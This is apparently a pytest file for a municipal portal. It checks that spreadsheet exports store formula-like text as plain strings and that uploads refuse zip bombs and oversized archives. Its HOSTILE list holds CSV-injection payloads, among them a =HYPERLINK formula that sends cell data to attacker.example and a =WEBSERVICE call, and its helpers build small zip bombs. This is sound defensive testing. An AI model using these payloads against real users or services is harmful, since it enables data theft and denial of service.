"""Every workbook the portal writes keeps typed text as text; every import checks the archive first (issue 15.6, 15.7).

Hostile values (OWASP's CSV-injection list: = + - @ tab CR) go through each export — the procurement
workbook, the casebook search export and import sheet, the awards sheets (xlsx and csv), the workload
template — and are read back with openpyxl: the cell must be a string ('s') holding exactly what was
typed, never a formula ('f'). A zip bomb built here must be refused before openpyxl inflates it.
"""
from __future__ import annotations

import io
import zipfile
from types import SimpleNamespace
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from awards.exports import to_csv, to_xlsx
from casebook import excel as casebook_excel
from kernel import spreadsheets
from procurement import declarations, exports, services
from tests.factories.procurement import make_project, user

HOSTILE = ['=HYPERLINK("http://attacker.example/?"&B3,"詳細")', "=WEBSERVICE(\"http://x.example/\")", "+81-3-1234",
           "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _cells(data: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_text(data: bytes, values: list[str]) -> None:
    cells = _cells(data)
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell was written"
    for value in values:
        # XML turns a carriage return into a line feed on reading; the cell is text either way.
        found = [c for c in cells if c.value == value.replace("\r", "\n")]
        assert found, f"{value!r} missing (changed on the way?)"
        assert all(c.data_type == "s" for c in found), value


def test_the_helper_keeps_formula_like_text_as_text() -> None:
    book = Workbook()
    spreadsheets.write_row(book.active, [*HOSTILE, 12_000, "普通の文字"])
    data = spreadsheets.save(book)
    _assert_text(data, HOSTILE)
    cells = _cells(data)
    assert [c.value for c in cells[-2:]] == [12_000, "普通の文字"] and cells[-2].data_type == "n"


def test_procurement_workbook(app_ctx) -> None:  # type: ignore[no-untyped-def]
    project = make_project()
    actor = user("tenant_admin")
    declarations.save_declaration(actor, project, declarations.DeclarationData(
        quantities={project.items[0].id: 5}, intent="commit", max_budget_yen=100_000, contact_name=HOSTILE[0],
        contact_email=actor.email, contact_phone=HOSTILE[2], remarks=HOSTILE[1]), None)
    curator = user("curator")
    for status in ("survey_closed", "tendering"):
        services.transition(curator, project, status)
    services.award(curator, project, project.quotes[0].id)
    data = exports.workbook(project)
    _assert_text(data, HOSTILE[:3])
    book = load_workbook(io.BytesIO(data))
    budget = book["参加団体"]["E2"]
    assert budget.value == 100_000 and budget.data_type == "n" and "円" in budget.number_format


def _entry(**content: Any) -> SimpleNamespace:
    base = {"id": 1, "source_tenant_id": "132055", "adoption_count": 0, "title": HOSTILE[0], "summary": HOSTILE[1],
            "problem": "", "approach": "", "outcomes": "", "themes": [HOSTILE[3], "窓口"], "tools": [],
            "fiscal_year": 2024, "cost_jpy": 1_000, "department": HOSTILE[4], "stage": "pilot", "vendors": [],
            "products": [], "ordinances": [], "lessons": "", "replication_conditions": "", "contact": HOSTILE[5],
            "successor_contact": HOSTILE[6], "kpis": [{"name": "-1", "before": "1", "after": "2", "unit": "",
                                                       "measured_on": ""}]}
    return SimpleNamespace(**{**base, **content})


def test_casebook_search_export_and_import_sheet(app_ctx) -> None:  # type: ignore[no-untyped-def]
    entry = _entry()
    data = casebook_excel.export_entries([(entry, SimpleNamespace(name_ja="=青梅市"))]).getvalue()
    _assert_text(data, [HOSTILE[0], "=青梅市", HOSTILE[4], HOSTILE[5], HOSTILE[6]])
    themes = [c for c in _cells(data) if isinstance(c.value, str) and c.value.startswith("-2+3、")]
    assert themes and themes[0].data_type == "s"  # a list cell starting like a formula
    kpis = [c for c in _cells(data) if isinstance(c.value, str) and c.value.startswith("-1 | 1 | 2")]
    assert kpis and kpis[0].data_type == "s"
    sheet = casebook_excel.cases_workbook([vars(entry)])
    _assert_text(sheet, [HOSTILE[0], HOSTILE[1], HOSTILE[4]])


def test_awards_sheets_xlsx_and_csv() -> None:
    rows = [["参照番号", "自治体", "タイトル", "合計"], ["E-001", HOSTILE[3], HOSTILE[0], 420.0]]
    data = to_xlsx({"結果": rows})
    _assert_text(data, [HOSTILE[0], HOSTILE[3]])
    score = [c for c in _cells(data) if c.value == 420.0][0]
    assert score.data_type == "n"  # a score is a number, not the text '420.00'
    text = to_csv(rows).decode("utf-8-sig")
    assert "'=HYPERLINK" in text and "'-2+3" in text


def test_workload_writes_through_the_same_helper() -> None:
    from workload import excel as workload_excel

    book = Workbook()
    for column, value in enumerate(HOSTILE, start=1):
        workload_excel._text_cell(book.active, 1, column, value)
    _assert_text(spreadsheets.save(book), HOSTILE)


# Imports ------------------------------------------------------------------------------------------

def _xlsx_with(extra: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A real template with extra members added to its archive."""
    source = zipfile.ZipFile(casebook_excel.import_template())
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as target:
        for info in source.infolist():
            target.writestr(info.filename, source.read(info.filename))
        for name, payload in extra.items():
            target.writestr(name, payload)
    return out.getvalue()


def test_a_small_zip_bomb_is_refused_before_parsing(app_ctx) -> None:  # type: ignore[no-untyped-def]
    bomb = _xlsx_with({"xl/media/padding.bin": b"\0" * (8 * 1024 * 1024)})  # 8 MiB of zeros
    assert len(bomb) < 64 * 1024  # the upload itself is tiny
    with pytest.raises(spreadsheets.SpreadsheetRejected, match="圧縮率が異常に高い"):
        spreadsheets.check_upload(bomb)
    contents, problems = casebook_excel.parse_workbook(bomb)
    assert contents == [] and len(problems) == 1 and "圧縮率" in problems[0].message


def test_total_size_member_and_sheet_limits(app_ctx, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    monkeypatch.setattr(spreadsheets, "MAX_UNCOMPRESSED_BYTES", 64 * 1024)
    import os

    big = _xlsx_with({"xl/media/photo.bin": os.urandom(80 * 1024)})  # incompressible: ratio ≈ 1, total too big
    with pytest.raises(spreadsheets.SpreadsheetRejected, match="上限の0 MB|MB"):
        spreadsheets.check_upload(big)
    monkeypatch.undo()
    sheets = _xlsx_with({f"xl/worksheets/extra{i}.xml": b"<x/>" for i in range(spreadsheets.MAX_SHEETS + 1)})
    with pytest.raises(spreadsheets.SpreadsheetRejected, match="シートが"):
        spreadsheets.check_upload(sheets)
    many = _xlsx_with({f"docProps/x{i}.xml": b"" for i in range(spreadsheets.MAX_MEMBERS)})
    with pytest.raises(spreadsheets.SpreadsheetRejected, match="構成要素が多すぎます"):
        spreadsheets.check_upload(many)
    spreadsheets.check_upload(casebook_excel.import_template().getvalue())  # the real template passes


def test_too_many_rows_get_one_clear_message(app_ctx, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    monkeypatch.setattr(casebook_excel, "MAX_IMPORT_ROWS", 3)
    data = casebook_excel.cases_workbook([{**vars(_entry(title=f"事例{i}")), "summary": "概要"} for i in range(5)])
    contents, problems = casebook_excel.parse_workbook(data)
    assert [p.message for p in problems] == ["一度に取り込めるのは3行までです。ファイルを分けてください。"]


def test_the_import_page_refuses_a_bomb_with_the_message(client, login_as) -> None:  # type: ignore[no-untyped-def]
    login_as("member")
    bomb = _xlsx_with({"xl/media/padding.bin": b"\0" * (8 * 1024 * 1024)})
    response = client.post("/cases/import", data={"file": (io.BytesIO(bomb), "cases.xlsx")},
                           content_type="multipart/form-data")
    assert response.status_code == 400
    assert "圧縮率が異常に高いため" in response.get_data(as_text=True)
